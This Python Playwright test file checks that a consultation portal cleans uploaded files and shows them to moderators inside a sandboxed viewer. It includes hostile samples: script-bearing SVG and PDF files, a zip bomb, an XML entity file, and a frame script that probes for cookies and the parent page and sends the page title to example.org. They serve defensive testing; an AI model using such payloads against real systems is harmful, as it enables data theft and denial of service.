"""Files from the submit page to the desk, in a browser: cleaned before they go, looked at where they reach nothing."""

from __future__ import annotations

import base64
import io
import re
import sqlite3
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import FrameLocator, Page, expect

from portal.crypto.attachment import SIZES
from portal.crypto.encoding import b64url_encode
from tests.browser import planted
from tests.browser.desk_stage import moderators, places, stage, unlock
from tests.browser.files_stage import send_files, sequence
from tests.browser.served import Portal, Watched
from tests.browser.test_desk import faults, open_row
from tests.browser.test_pages import WIDTHS

pytestmark = pytest.mark.browser

SECRET = "Xem ảnh chụp sổ theo dõi và hai tệp kèm theo."
HOSTILE = b"<script>alert('svg')</script>"


def choose(page: Page, *paths: Path) -> None:
    """By the button, as a person does."""
    with page.expect_file_chooser() as waiting:
        page.click("#files")
    waiting.value.set_files([str(path) for path in paths])


def drop(page: Page, path: Path) -> None:
    """As if the file had been dragged there."""
    data = base64.b64encode(path.read_bytes()).decode("ascii")
    page.evaluate(
        """([data, name]) => {
          const bytes = Uint8Array.from(atob(data), (character) => character.charCodeAt(0));
          const dataTransfer = new DataTransfer();
          dataTransfer.items.add(new File([bytes], name));
          const place = document.getElementById("files-drop");
          for (const type of ["dragover", "drop"]) {
            place.dispatchEvent(new DragEvent(type, { dataTransfer, bubbles: true, cancelable: true }));
          }
        }""",
        [data, path.name],
    )


def write(page: Page, portal: Portal, cid: str) -> None:
    page.goto(f"{portal.url}/en/c/{cid}")
    expect(page.locator("#comment")).to_be_visible()
    page.check("input[name=topic][value=conduct]")
    page.fill("#text", SECRET)


def keep_posts(page: Page) -> None:
    """Blobs that are posted are not shown to a driver: keep them in the page."""
    page.add_init_script(
        """{ const real = fetch; globalThis.posted = []; globalThis.fetch = (url, options) => {
          if (options?.body instanceof Blob) globalThis.posted.push(options.body);
          return real(url, options); }; }"""
    )


def posted(page: Page) -> list[bytes]:
    """Those bodies."""
    texts = page.evaluate(
        """() => Promise.all(globalThis.posted.map(async (blob) => {
          const bytes = new Uint8Array(await blob.arrayBuffer());
          let text = "";
          for (let at = 0; at < bytes.length; at += 8192) text += String.fromCharCode(...bytes.subarray(at, at + 8192));
          return btoa(text); }))"""
    )
    return [base64.b64decode(text) for text in texts]


def clean(page: Page, count: int) -> None:
    """Wait until so many files are clean."""
    expect(page.locator("#file-list [data-report]:visible")).to_have_count(count, timeout=60_000)


def look(page: Page, place: int) -> FrameLocator:
    """Open that file of the open comment; what the sandboxed frame shows."""
    page.locator("#files [data-list] button").nth(place).click()
    expect(page.locator("#files [data-title]")).to_be_focused()
    return page.frame_locator("#files iframe")


def in_frame(page: Page, script: str) -> Any:
    """Run a script in the viewer, as a file that had broken out of its decoder would."""
    frame = next(frame for frame in page.frames if frame.url.endswith("/_viewer"))
    return frame.evaluate(script)


def pick_three(page: Page, photo: Path, pdf: Path, docx: Path, fake: Path) -> None:
    """Files are chosen, dropped, and one that is no picture is refused in words."""
    choose(page, photo, fake)
    clean(page, 1)
    expect(page.locator("#file-list > li").nth(1)).to_contain_text("can be cleaned")
    page.click("#send-button")
    expect(page.locator("#problem")).to_be_visible()
    page.locator("#problem-list a").click()
    page.keyboard.press("Enter")
    expect(page.locator("#file-list > li")).to_have_count(1)
    expect(page.locator("#file-list button")).to_be_focused()
    choose(page, pdf)
    drop(page, docx)
    clean(page, 3)


def look_at_all(page: Page) -> None:
    """A picture that stands upright, both pages of a PDF, and what an office file says."""
    expect(page.locator("#files [data-list] li")).to_have_count(3)
    picture = look(page, 0).locator("canvas")
    expect(picture).to_be_visible()
    assert (picture.get_attribute("width"), picture.get_attribute("height")) == ("200", "320")
    frame = look(page, 1)
    expect(frame.locator("#page")).to_have_text(re.compile("1.+2"))
    frame.locator("#next").click()
    expect(frame.locator("#next")).to_be_disabled()
    expect(frame.locator("canvas")).to_have_count(1)
    expect(look(page, 2).locator("pre").first).to_contain_text(f"{planted.VISIBLE} chèn thêm")
    assert faults(page) == []


def keeps_nothing_of_the_maker(portal: Portal, citizen: Watched, *files: Path) -> None:
    """Nothing that was planted, no name of a file and no word of the comment left the browser or lies at rest."""
    (body,) = posted(citizen.page)
    stored = b"".join(path.read_bytes() for path in portal.instance.glob("portal.sqlite3*"))
    for data in (citizen.bodies(), body, stored):
        assert planted.found_in(data) == set()
        assert not [text for text in (SECRET, *(file.name for file in files)) if text.encode() in data]
    assert 3 * SIZES[0] < len(body) < 3 * SIZES[0] + 64 * 1024


@pytest.mark.parametrize("width", WIDTHS)
def test_files_go_clean_from_the_form_to_the_desk(
    portal: Portal, visit: Callable[..., Watched], sign_in: Callable[..., Watched], tmp_path: Path, width: int
) -> None:
    # given a consultation that takes three files, and somebody with files that tell of their maker
    cid = f"thu-tep-{width}"
    stage(portal, cid, [], readers=1, files=3)
    files = planted.photograph(tmp_path, "jpg", orientation=6), planted.pdf(tmp_path), planted.docx(tmp_path)
    fake = tmp_path / "anh-gia.jpg"
    fake.write_bytes(b"<html>" + HOSTILE)
    citizen = visit(width)
    page = citizen.page
    keep_posts(page)
    write(page, portal, cid)
    pick_three(page, *files, fake)

    # then the page says what was taken out and what cannot be, and no more files fit
    first = page.locator("#file-list > li").first
    for words in ("where the picture was taken", "camera or telephone", "Cannot be taken out", "the fine noise"):
        expect(first).to_contain_text(words)
    expect(page.locator("#files")).to_be_disabled()
    assert faults(page) == []

    # when it is sent, it is clean, and a moderator looks at all three
    page.click("#send-button")
    expect(page.locator("#receipt-step")).to_be_visible(timeout=30_000)
    sequence(portal, cid)
    keeps_nothing_of_the_maker(portal, citizen, *files)
    person = moderators(portal)[0]
    desk = sign_in(person["name"], width).page
    unlock(desk, portal, cid, person["passphrase"])
    open_row(desk, places(portal, cid)[0])
    look_at_all(desk)

    # and when the desk locks, the file is gone from the page
    desk.click("[data-lock]")
    expect(desk.locator("#files iframe")).to_have_count(0)


TRIES = """async (url) => {
  const found = {};
  const probe = async (name, act) => {
    try { found[name] = String(await act()); } catch { found[name] = "no"; }
  };
  const loaded = (element) => new Promise((resolve, reject) => {
    Object.assign(element, { onload: resolve, onmessage: resolve, onerror: reject });
    setTimeout(reject, 1000);
  });
  // a driver's own scripts may evaluate text; what runs later may not
  const later = (act) => new Promise((resolve, reject) => setTimeout(() => {
    try { resolve(act()); } catch (error) { reject(error); }
  }));
  await probe("cookie", () => document.cookie);
  await probe("storage", () => localStorage.length);
  await probe("desk", () => parent.document.title);
  await probe("top", () => { top.location = "about:blank"; return "moved"; });
  await probe("fetch", () => fetch(url).then((answer) => answer.status));
  await probe("elsewhere", () => fetch("https://example.org/").then((answer) => answer.status));
  await probe("worker", () => loaded(new Worker(url)));
  await probe("eval", () => later(() => Function("return 1")()));
  await probe("markup", () => later(() => { document.body.innerHTML = "<p>"; return "written"; }));
  await probe("popup", () => { if (!open("about:blank")) throw new Error(); });
  await probe("image", () => { const image = new Image(); image.src = url + "?x"; return loaded(image); });
  await probe("form", () => {
    const form = document.body.appendChild(document.createElement("form"));
    form.action = url;
    form.submit();
    return loaded(form);
  });
  return { ...found, origin: String(self.origin) };
}"""


def draws(page: Page) -> bool:
    """Whether the viewer's canvas holds more than one colour."""
    return bool(
        in_frame(
            page,
            """() => { const canvas = document.querySelector("canvas");
            const { data } = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
            return new Set(new Uint32Array(data.buffer)).size > 1; }""",
        )
    )


def test_what_breaks_out_of_its_decoder_is_still_in_the_sandbox(
    portal: Portal, sign_in: Callable[..., Watched], tmp_path: Path
) -> None:
    # given a file that is open at the desk
    cid = "thu-hop-cat"
    stage(portal, cid, [], readers=1, files=3)
    send_files(portal, cid, "Một tệp.", [("jpeg", planted.photograph(tmp_path, "jpg").read_bytes())])
    person = moderators(portal)[0]
    desk = sign_in(person["name"])
    page = desk.page
    unlock(page, portal, cid, person["passphrase"])
    open_row(page, places(portal, cid)[0])
    expect(look(page, 0).locator("canvas")).to_be_visible()
    assert draws(page)
    # when code in the frame tries what the desk could do
    frame = next(one for one in page.frames if one.url.endswith("/_viewer"))
    found = frame.evaluate(TRIES, f"{portal.url}/staff/")
    # (and last, to take what it was given to another site)
    reached: list[str] = []
    page.context.route("https://example.org/**", lambda route: reached.append(route.request.url) or route.abort())
    frame.evaluate("() => { location.href = 'https://example.org/?' + document.title; }")
    page.wait_for_timeout(500)
    # then it has no origin and none of it is possible
    assert reached == []
    assert found.pop("origin") == "null"
    assert len(page.context.pages) == 1
    assert set(found.values()) == {"no"}, found
    assert page.url.endswith(f"/staff/moderation/{cid}")
    # (each try is a complaint of the browser; nothing else was)
    others = [one for one in desk.complaints if not re.search(r"[Pp]olic|sandbox|Trusted|null|example.org", one)]
    assert desk.complaints and others == []
    desk.complaints.clear()


def hostile_files() -> list[tuple[str, bytes]]:
    """Files as an attacker with a ballot would seal them: none is what its type says."""
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("word/document.xml", b"<a>" + b" " * (200 << 20) + b"</a>")
    entity = io.BytesIO()
    with zipfile.ZipFile(entity, "w") as made:
        made.writestr("content.xml", '<!DOCTYPE a [<!ENTITY b "bung">]><a>&b;</a>')
    action = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    script = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction" + action + b">>endobj\ntrailer<</Root 1 0 R>>"
    huge = b"IHDR" + (90_000).to_bytes(4, "big") * 2 + b"\x08\x02\0\0\0"
    return [
        ("jpeg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + HOSTILE + b"</svg>"),
        ("pdf", b"<!doctype html>" + HOSTILE),
        ("pdf", script),
        ("png", b"\x89PNG\r\n\x1a\n\0\0\0\x0d" + huge + b"\0" * 40 + b"\0\0\0\0IEND\0\0\0\0"),
        ("docx", bomb.getvalue()),
        ("odt", entity.getvalue()),
    ]


def test_hostile_files_end_in_words_and_run_nothing(portal: Portal, sign_in: Callable[..., Watched]) -> None:
    cid = "thu-doc-hai"
    stage(portal, cid, [], readers=1, files=3)
    files = hostile_files()
    for start in (0, 3):
        send_files(portal, cid, "Ba tệp.", files[start : start + 3])
    person = moderators(portal)[0]
    desk = sign_in(person["name"])
    page = desk.page
    page.on("dialog", lambda dialog: desk.complaints.append(f"dialog {dialog.message}"))
    unlock(page, portal, cid, person["passphrase"])
    for index in places(portal, cid):
        open_row(page, index)
        for place in range(3):
            frame = look(page, place)
            note = frame.locator("#note")
            view = frame.locator("#view")
            said = {view.get_attribute("data-failed"), view.get_attribute("data-too-large")}
            expect(note).to_have_text(re.compile("|".join(re.escape(text or "-") for text in said)), timeout=30_000)
            expect(frame.locator("#stage > *")).to_have_count(0)


def test_a_missing_and_an_altered_file_are_said(
    portal: Portal, sign_in: Callable[..., Watched], tmp_path: Path
) -> None:
    # given two files, one of which was lost and one of which was altered
    cid = "thu-mat-tep"
    stage(portal, cid, [], readers=1, files=3)
    data = planted.photograph(tmp_path, "png").read_bytes()
    lost, altered = send_files(portal, cid, "Hai tệp.", [("png", data), ("png", data)])
    with sqlite3.connect(portal.instance / "portal.sqlite3") as store:
        store.execute("DELETE FROM sealed_attachment WHERE sha256 = ?", (lost,))
        (sealed,) = store.execute("SELECT data FROM sealed_attachment WHERE sha256 = ?", (altered,)).fetchone()
        changed = sealed[:500] + bytes([sealed[500] ^ 1]) + sealed[501:]
        store.execute("UPDATE sealed_attachment SET data = ? WHERE sha256 = ?", (changed, altered))
    person = moderators(portal)[0]
    page = sign_in(person["name"]).page
    unlock(page, portal, cid, person["passphrase"])
    open_row(page, places(portal, cid)[0])
    # when they are asked for, then the page says which it is, and shows nothing
    for place, word in ((0, "data-missing"), (1, "data-altered")):
        page.locator("#files [data-list] button").nth(place).click()
        expect(page.locator("#files [data-state]")).to_have_text(page.locator("#files").get_attribute(word) or "-")
        expect(page.locator("#files iframe")).to_have_count(0)


def fetched(watched: Watched) -> list[str]:
    return [one.url for one in watched.sent if "/attachments" in one.url]


def test_whoever_was_left_out_asks_for_the_same_files(
    portal: Portal, sign_in: Callable[..., Watched], tmp_path: Path
) -> None:
    # given a comment with a file from which one moderator was left out, and one without
    cid, people = "thu-bo-qua", moderators(portal)
    stage(portal, cid, ["Một ý kiến không có tệp."], readers=1, files=3)
    data = planted.photograph(tmp_path, "png").read_bytes()
    (sha256,) = send_files(portal, cid, "Có tệp.", [("png", data)], left_out=people[2]["name"])
    plain, with_file = places(portal, cid)
    # when both read what they can
    asked = []
    for person in (people[0], people[2]):
        desk = sign_in(person["name"])
        unlock(desk.page, portal, cid, person["passphrase"])
        open_row(desk.page, plain)
        expect(desk.page.locator("#files")).to_be_hidden()
        desk.page.wait_for_load_state("networkidle")
        if person is people[0]:
            open_row(desk.page, with_file)
            expect(look(desk.page, 0).locator("canvas")).to_be_visible()
        else:
            expect(desk.page.locator(f"#row-{with_file}")).to_have_count(0)
        asked.append(fetched(desk))
    # then the portal was asked for the same, in the same order, by both
    assert asked[0] == asked[1] and asked[0][-1].endswith(b64url_encode(sha256))
